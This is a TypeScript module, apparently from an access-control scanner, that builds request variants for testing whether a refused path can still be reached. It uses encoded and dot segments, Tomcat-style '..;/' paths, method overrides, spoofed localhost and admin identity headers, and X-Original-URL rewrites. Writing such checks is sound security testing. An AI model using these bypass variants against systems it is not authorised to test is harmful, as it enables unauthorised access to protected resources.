import type { ProbeRequest } from '../types.ts';

// Request variants that reach the same resource through a different spelling, method or claimed
// identity: each defeats an access rule that matches the raw text (or trusts a header) while the
// router normalizes. Pure: the check sends them and judges the answers.

/** One variant of a refused `GET <path>`. */
export interface BypassVariant {
  technique: string;
  req: ProbeRequest;
  /** A path the variant's answer must not merely repeat (X-Original-URL asks for `/`). */
  sameAs?: string;
  /** Headers tried together; when they work, each is retried alone to name the one that matters. */
  group?: boolean;
}

const SPOOFED_ADDRESS: Record<string, string> = {
  'X-Forwarded-For': '127.0.0.1',
  'X-Real-IP': '127.0.0.1',
  'X-Client-IP': '127.0.0.1',
  'X-Originating-IP': '127.0.0.1',
  'True-Client-IP': '127.0.0.1',
  Forwarded: 'for=127.0.0.1',
};

const SPOOFED_USER: Record<string, string> = {
  'X-Gatehouse-Agent': 'admin',
  'X-User': 'admin',
  'X-Remote-User': 'admin',
  'X-Forwarded-User': 'admin',
  'X-Auth-Request-User': 'admin',
  'Remote-User': 'admin',
};

/** The headers a group variant combined, each to be tried alone. */
export function splitGroup(v: BypassVariant): BypassVariant[] {
  return Object.entries(v.req.headers ?? {}).map(([name, value]) => ({ technique: `spoofed ${name} header`, req: { ...v.req, headers: { [name]: value } } }));
}

const get = (target: string, headers?: Record<string, string>): ProbeRequest => ({ method: 'GET', target, anonymous: true, ...(headers ? { headers } : {}) });

/**
 * Every variant of `GET path` (a concrete path, no query). Method-override variants are POSTs, so
 * the caller asks for them only where a POST cannot create anything (`postOverrides`).
 */
export function bypassVariants(path: string, opts: { postOverrides: boolean }): BypassVariant[] {
  const segs = path.split('/').slice(1);
  const first = segs[0] ?? '';
  const rest = segs.slice(1).join('/');
  const tail = rest === '' ? '' : `/${rest}`;
  const lastSlash = path.lastIndexOf('/');
  const out: BypassVariant[] = [];
  const add = (technique: string, target: string): void => {
    if (target !== path && !out.some((v) => v.req.method === 'GET' && v.req.target === target && !v.req.headers)) out.push({ technique, req: get(target) });
  };
  add('trailing slash', path.endsWith('/') ? path.slice(0, -1) : `${path}/`);
  add('case change', `/${first.toUpperCase()}${tail}`);
  add('case change (whole path)', path.toUpperCase());
  add('`..;/` segment (Tomcat/Spring)', `/gatehouse-scan/..;${path}`);
  add('`;` segment parameter', `/${first};x=1${tail}`);
  add('`;jsessionid=` parameter', `${path};jsessionid=x`);
  add('encoded dot segment `/%2e/`', `/%2e${path}`);
  if (rest !== '') add('encoded dot segment `/%2e/`', `/${first}/%2e${tail}`);
  add('encoded slash `%2f`', `${path.slice(0, lastSlash)}%2f${path.slice(lastSlash + 1)}`);
  add('double slash', `/${path}`);
  if (rest !== '') add('double slash', `/${first}/${tail}`);
  add('`/./` segment', `/.${path}`);
  if (rest !== '') add('`/./` segment', `/${first}/.${tail}`);
  add('`.json` suffix', `${path}.json`);
  add('encoded trailing space', `${path}%20`);
  out.push({ technique: 'HEAD instead of GET', req: { method: 'HEAD', target: path, anonymous: true } });
  if (opts.postOverrides) {
    // Plain POST first: a rule written for GET only lets it through even where no override is honoured.
    out.push({ technique: 'POST instead of GET', req: { method: 'POST', target: path, anonymous: true, body: '' } });
    for (const h of ['X-HTTP-Method-Override', 'X-Method-Override', 'X-HTTP-Method']) {
      out.push({ technique: `${h}: GET on a POST`, req: { method: 'POST', target: path, anonymous: true, headers: { [h]: 'GET' }, body: '' } });
    }
    out.push({ technique: '`_method=GET` on a POST', req: { method: 'POST', target: `${path}?_method=GET`, anonymous: true, body: '' } });
  }
  out.push({ technique: 'spoofed client-address headers', req: get(path, SPOOFED_ADDRESS), group: true });
  out.push({ technique: 'spoofed identity headers', req: get(path, SPOOFED_USER), group: true });
  out.push({ technique: 'X-Original-URL rewrite', req: get('/', { 'X-Original-URL': path }), sameAs: '/' });
  out.push({ technique: 'X-Rewrite-URL rewrite', req: get('/', { 'X-Rewrite-URL': path }), sameAs: '/' });
  return out;
}
